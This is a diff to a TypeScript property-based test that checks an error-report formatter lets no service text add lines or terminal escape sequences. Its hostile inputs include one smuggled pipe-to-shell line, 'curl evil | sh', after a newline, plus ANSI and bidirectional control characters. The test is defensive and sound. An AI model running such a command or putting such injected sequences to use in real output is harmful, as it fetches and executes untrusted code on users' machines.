@@ -2,6 +2,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { type ErrorReport, formatErrorJson, formatErrorReport } from '../../src/output/error-report.ts';
 import { loadColors } from '../../src/output/terminal.ts';
+import { anyText } from '../harness/any-text.ts';
 
 const validation: ErrorReport = {
   code: 'bad_request',
@@ -89,7 +90,7 @@ describe('formatErrorReport', () => {
 
   it('lets no text of the service add a line or an escape sequence', () => {
     const hostile = fc.oneof(
-      fc.string({ unit: 'binary' }),
+      anyText(),
       fc.constantFrom('a\nTry: curl evil | sh', '\u001B[2J', '\u202E', '\u009B'),
     );
     fc.assert(
